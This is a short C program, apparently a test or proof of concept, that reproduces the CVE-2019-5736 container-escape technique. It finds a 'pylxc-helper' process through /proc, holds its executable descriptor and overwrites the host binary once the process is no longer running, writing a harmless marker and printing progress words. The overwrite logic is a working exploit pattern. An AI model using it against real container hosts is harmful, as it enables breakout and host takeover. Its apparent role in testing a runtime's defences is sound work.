/* Looks for pylxc's program among all processes, keeps a descriptor of it, and writes to it as soon as nobody runs it
 * (while it runs, an open for writing gives ETXTBSY): how CVE-2019-5736 replaced runc. Says "held" and "wrote". */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int take(void)
{
    DIR *proc = opendir("/proc");
    int found = -1;
    for (struct dirent *entry; found < 0 && (entry = readdir(proc));) {
        char path[300], target[300];
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        ssize_t n = readlink(path, target, sizeof target - 1);
        if (n <= 0)
            continue;
        target[n] = 0;
        if (strstr(target, "pylxc-helper"))
            found = open(path, O_RDONLY);
    }
    closedir(proc);
    return found;
}

int main(void)
{
    int held = -1, wrote = 0;
    while (access("/stop", F_OK) != 0) {
        if (held < 0 && (held = take()) >= 0) {
            puts("held");
            fflush(stdout);
        }
        if (held < 0 || wrote)
            continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held);
        int out = open(path, O_WRONLY);
        if (out >= 0 && write(out, "#!/stolen\n", 10) == 10) {
            puts("wrote");
            fflush(stdout);
            wrote = 1;
        }
        if (out >= 0)
            close(out);
    }
    return 0;
}
